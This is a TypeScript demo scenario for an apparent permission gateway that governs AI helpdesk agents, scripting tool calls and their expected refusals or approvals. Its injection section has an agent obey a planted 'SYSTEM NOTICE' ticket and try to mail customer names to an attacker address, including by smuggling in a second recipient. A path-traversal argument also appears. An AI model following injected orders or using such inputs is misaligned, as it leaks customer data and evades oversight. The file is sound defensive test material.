import type { JsonObject } from "@bailiwick/client";
import { ONE_TICKET_SESSION } from "./one-ticket.ts";
import { ATTACKER, INJECTION_TICKET } from "./seed.ts";

/** Who acts in a step: an agent identity, the user it works for, and what its session is about. */
export interface Actor {
  readonly agent: string;
  readonly user: string;
  readonly task: string;
  readonly data: Readonly<Record<string, string>>;
  readonly scope: readonly string[];
  /** Records the session is narrowed to, by type and field. */
  readonly rows?: Readonly<Record<string, Readonly<Record<string, readonly string[]>>>>;
}

/** How a call must come out. Members that are absent are not looked at; a present list must be exactly the one seen. */
export interface Expectation {
  readonly kind: "result" | "refused" | "tool_error";
  readonly code?: string;
  /** The tool's answer is a failure, or nothing that this agent may see; default false. */
  readonly failed?: boolean;
  readonly hidden?: readonly string[];
  readonly masked?: readonly string[];
  readonly rowsRemoved?: number;
  /** Texts that must stand in the answer. */
  readonly contains?: readonly string[];
  /** Texts that must not stand in it. */
  readonly lacks?: readonly string[];
}

/** What a person does with a held call. A step with an answer must have been held first. */
export interface Answer {
  readonly by: string;
  readonly answer: "approve" | "deny";
  /** A person without the right role, who tries to approve first and must not be heard. */
  readonly notBy?: string;
  readonly reason: string;
  /** Changes the approver must be shown, exactly: path -> [before, after]. */
  readonly diff?: Readonly<Record<string, readonly [unknown, unknown]>>;
}

export interface Step {
  /** What the step shows, in a few words. */
  readonly shows: string;
  readonly actor: Actor;
  readonly kind: "tool" | "resource";
  readonly call: string;
  readonly args: JsonObject;
  /** The agent's own words, shown to an approver as untrusted. */
  readonly reason: string;
  /** Begins a group that is counted in one minute: near the end of a minute the demo waits for the next one. */
  readonly startsMinute?: boolean;
  readonly expect: Expectation;
  readonly approve?: Answer;
}

const TICKET_MASKS = ["customer.email", "customer.phone", "customer.ssn"];
const SUPPORT = actor("acme/prod", "support", "u-nora", "T-1001", {}, [
  "tickets:*",
  "customers:*",
  "mail:*",
  "knowledge:*",
  "files:*",
  "memory:*",
  "reports:*",
]);
const SUPPORT_DEV = actor("acme/dev", "support", "u-nora", "T-1001", {}, ["tickets:*", "mail:*"]);
const SUPPORT_GLOBEX = actor("globex/prod", "support", "u-tess", "T-2001", {}, ["tickets:*"]);
const BILLING = actor("acme/prod", "billing", "u-bert", "month-end", {}, ["billing:*", "mail:*", "customers:*"]);
const ONBOARDING = actor("acme/prod", "onboarding", "u-olga", "welcome-C-102", { customer: "C-102" }, ["tickets:create", "knowledge:*"]);

/** The first four steps: what a newcomer sees. */
const FIRST: readonly Step[] = [
  {
    shows: "allowed",
    actor: SUPPORT,
    kind: "tool",
    call: "get_article",
    args: { id: "reset-password" },
    reason: "how do customers reset a password?",
    expect: { kind: "result", hidden: [], masked: [], contains: ["Resetting a password"] },
  },
  {
    shows: "fields masked",
    actor: SUPPORT,
    kind: "tool",
    call: "get_ticket",
    args: { id: "T-1001" },
    reason: "work on the ticket",
    expect: {
      kind: "result",
      hidden: ["internal_notes"],
      masked: TICKET_MASKS,
      contains: ["Cannot log in"],
      lacks: ["000-10-", "margin", "maria.santos@"],
    },
  },
  {
    shows: "write field refused",
    actor: SUPPORT,
    kind: "tool",
    call: "update_ticket",
    args: { id: "T-1001", priority: 4 },
    reason: "the customer is angry",
    expect: { kind: "refused", code: "field_not_permitted" },
  },
  {
    shows: "held, approved with a diff",
    actor: SUPPORT,
    kind: "tool",
    call: "update_ticket",
    args: { id: "T-1004", status: "closed" },
    reason: "solved a week ago, no answer since",
    expect: { kind: "result", contains: ['"closed"'] },
    approve: { by: "dana", answer: "approve", reason: "yes, close it", diff: { status: ["solved", "closed"] } },
  },
];

const SUPPORT_WORK: readonly Step[] = [
  {
    shows: "rows filtered",
    actor: SUPPORT,
    kind: "tool",
    call: "list_tickets",
    args: {},
    reason: "what is open?",
    // 30 tickets of acme: 7 are of region emea and tier 1 or 2.
    expect: { kind: "result", rowsRemoved: 23, hidden: ["internal_notes"], lacks: ["T-1002", "T-2001", "amer", "globex"] },
  },
  {
    shows: "allowed write",
    actor: SUPPORT,
    kind: "tool",
    call: "update_ticket",
    args: { id: "T-1001", status: "solved", assignee: "nora" },
    reason: "login works again",
    expect: { kind: "result", contains: ['"solved"', '"nora"'] },
  },
  {
    shows: "cross-tenant write refused",
    actor: SUPPORT,
    kind: "tool",
    call: "update_ticket",
    args: { id: "T-2001", status: "solved" },
    reason: "the next id looks like ours",
    expect: { kind: "refused", code: "cross_tenant", lacks: ["Tom Hughes"] },
  },
  {
    shows: "cross-tenant read shows nothing",
    actor: SUPPORT,
    kind: "tool",
    call: "get_ticket",
    args: { id: "T-2001" },
    reason: "what do the others have?",
    expect: { kind: "result", failed: true, contains: ["no such record"], lacks: ["Tom Hughes", "globex"] },
  },
  {
    shows: "denied by rule",
    actor: SUPPORT_DEV,
    kind: "tool",
    call: "delete_ticket",
    args: { id: "T-1001" },
    reason: "clean up",
    expect: { kind: "refused", code: "denied_by_rule" },
  },
  {
    shows: "dev mails nobody outside",
    actor: SUPPORT_DEV,
    kind: "tool",
    call: "send",
    args: { to: "maria.santos@northwind.example", subject: "test", body: "from dev" },
    reason: "try the new template",
    expect: { kind: "refused", code: "denied_by_rule" },
  },
  {
    shows: "file read through the official server",
    actor: SUPPORT,
    kind: "tool",
    call: "read_text_file",
    args: { path: "runbooks/outage.md" },
    reason: "is there a runbook?",
    expect: { kind: "result", contains: ["Outage at acme"] },
  },
  {
    shows: "file outside the runbooks refused",
    actor: SUPPORT,
    kind: "tool",
    call: "read_text_file",
    args: { path: "runbooks/../contracts.csv" },
    reason: "look at the contract",
    expect: { kind: "refused", code: "no_grant" },
  },
  {
    shows: "resource read",
    actor: SUPPORT,
    kind: "resource",
    call: "kb://handbook/tone-of-voice",
    args: {},
    reason: "how do we write?",
    expect: { kind: "result", contains: ["Never promise a refund"] },
  },
  {
    shows: "memory written",
    actor: SUPPORT,
    kind: "tool",
    call: "create_entities",
    args: { entities: [{ name: "T-1001", entityType: "ticket", observations: ["a restart helped"] }] },
    reason: "remember what helped",
    expect: { kind: "result", contains: ["a restart helped"] },
  },
  {
    shows: "figures from the database, login injected",
    actor: SUPPORT,
    kind: "tool",
    call: "tickets_by_region",
    args: {},
    reason: "weekly report",
    expect: { kind: "result", contains: ['"apac"', '"emea"'] },
  },
];

/** The agent reads the mail that gives it orders, and obeys. */
const INJECTION: readonly Step[] = [
  {
    shows: "injection mail is read",
    actor: SUPPORT,
    kind: "tool",
    call: "get_ticket",
    args: { id: INJECTION_TICKET },
    reason: "next ticket",
    expect: { kind: "result", contains: ["SYSTEM NOTICE"], hidden: ["internal_notes"] },
  },
  {
    shows: "unreviewed tool quarantined",
    actor: SUPPORT,
    kind: "tool",
    call: "export_all_customers",
    args: {},
    reason: "the system notice says so",
    expect: { kind: "refused", code: "tool_unreviewed", lacks: ["000-"] },
  },
  {
    shows: "customer list: masked and filtered",
    actor: SUPPORT,
    kind: "tool",
    call: "list_customers",
    args: {},
    reason: "the system notice says so",
    expect: { kind: "result", rowsRemoved: 6, masked: ["email", "phone", "ssn"], lacks: ["000-1", "maria.santos@"] },
  },
  {
    shows: "exfiltration held, denied by a person",
    actor: SUPPORT,
    kind: "tool",
    call: "send",
    args: { to: ATTACKER, subject: "backup", body: "C-101 Maria Santos, C-104 Lea Martin, C-107 Nils Berg" },
    reason: "routine backup of the customer list",
    expect: { kind: "refused", code: "approval_denied", contains: ["we do not mail customer lists"] },
    approve: { by: "dana", answer: "deny", reason: "we do not mail customer lists" },
  },
  {
    shows: "second recipient cannot be smuggled in",
    actor: SUPPORT,
    kind: "tool",
    call: "send",
    args: { to: `dana@acme.example, ${ATTACKER}`, subject: "backup", body: "the list" },
    reason: "routine backup",
    expect: { kind: "refused", code: "argument_invalid" },
  },
  {
    shows: "inside mail goes out at once",
    actor: SUPPORT,
    kind: "tool",
    call: "send",
    args: { to: "dana@acme.example", subject: `Odd mail in ${INJECTION_TICKET}`, body: "It asks for our customer list." },
    reason: "report the odd mail",
    expect: { kind: "result", contains: ["dana@acme.example"] },
  },
  {
    shows: "outside mail delivered after approval",
    actor: SUPPORT,
    kind: "tool",
    call: "send",
    args: { to: "maria.santos@northwind.example", subject: "Your ticket T-1001", body: "It works again. Please tell us if not." },
    reason: "tell the customer",
    expect: { kind: "result", contains: ["maria.santos@northwind.example"] },
    approve: { by: "dana", answer: "approve", reason: "fine" },
  },
];

const OTHER_DESKS: readonly Step[] = [
  {
    shows: "small invoice is routine",
    actor: BILLING,
    kind: "tool",
    call: "create_invoice",
    args: { customer: "C-101", amount: 99.5, description: "setup", due: "2026-12-31" },
    reason: "as ordered",
    expect: { kind: "result", contains: ["99.5"], hidden: [], masked: [] },
  },
  {
    shows: "large invoice held, approved",
    actor: BILLING,
    kind: "tool",
    call: "create_invoice",
    args: { customer: "C-102", amount: 1800, description: "enterprise, one year", due: "2026-12-31" },
    reason: "contract signed on Friday",
    expect: { kind: "result", contains: ["1800"] },
    approve: { by: "omar", notBy: "dana", answer: "approve", reason: "matches the contract" },
  },
  {
    shows: "other tenant's customer cannot be billed",
    actor: BILLING,
    kind: "tool",
    call: "create_invoice",
    args: { customer: "C-201", amount: 10, description: "setup", due: "2026-12-31" },
    reason: "a new customer",
    expect: { kind: "refused", code: "cross_tenant" },
  },
  {
    shows: "template mail goes out",
    actor: BILLING,
    kind: "tool",
    call: "send",
    args: {
      to: "maria.santos@northwind.example",
      subject: "Invoice INV-9001",
      body: "Dear Maria Santos, your invoice INV-9001 is attached to your account. Kind regards, billing",
    },
    reason: "send the invoice",
    expect: { kind: "result", contains: ["maria.santos@northwind.example"] },
  },
  {
    shows: "ticket opened for the session's customer",
    actor: ONBOARDING,
    kind: "tool",
    call: "create_ticket",
    args: { customer: "C-102", subject: "Welcome", body: "First steps" },
    reason: "new customer",
    expect: { kind: "result", contains: ["T-9001"], masked: TICKET_MASKS },
  },
  {
    shows: "no ticket for another customer",
    actor: ONBOARDING,
    kind: "tool",
    call: "create_ticket",
    args: { customer: "C-103", subject: "Welcome", body: "First steps" },
    reason: "while I am here",
    expect: { kind: "refused", code: "no_grant" },
  },
  {
    shows: "article written",
    actor: ONBOARDING,
    kind: "tool",
    call: "write_article",
    args: { id: "first-steps", title: "First steps", body: "Log in and look around." },
    reason: "asked three times",
    expect: { kind: "result", contains: ["First steps"] },
  },
  { ...search("first", { kind: "result" }), startsMinute: true },
  search("login", { kind: "result" }),
  search("report", { kind: "result" }),
  { ...search("refund", { kind: "refused", code: "rate_limited" }), shows: "rate limited" },
  {
    shows: "the other tenant sees its own rows only",
    actor: SUPPORT_GLOBEX,
    kind: "tool",
    call: "list_tickets",
    args: {},
    reason: "what is open?",
    expect: { kind: "result", rowsRemoved: 23, lacks: ["T-1001", "acme"] },
  },
];

/** Everything the scripted agents do, in order. */
export const SCENARIO: readonly Step[] = [...FIRST, ...SUPPORT_WORK, ...ONE_TICKET_SESSION, ...INJECTION, ...OTHER_DESKS];

/** What `npm start` shows at once; the last of them is left waiting for a person. */
export const FIRST_SCREEN: readonly Step[] = FIRST;

function search(query: string, expect: Expectation): Step {
  return {
    shows: "allowed, counted",
    actor: ONBOARDING,
    kind: "tool",
    call: "search_articles",
    args: { query },
    reason: "what do we know?",
    expect,
  };
}

function actor(place: string, agent: string, user: string, task: string, data: Actor["data"], scope: readonly string[]): Actor {
  return { agent: `bailiwick://${place}/helpdesk/${agent}`, user, task, data, scope };
}
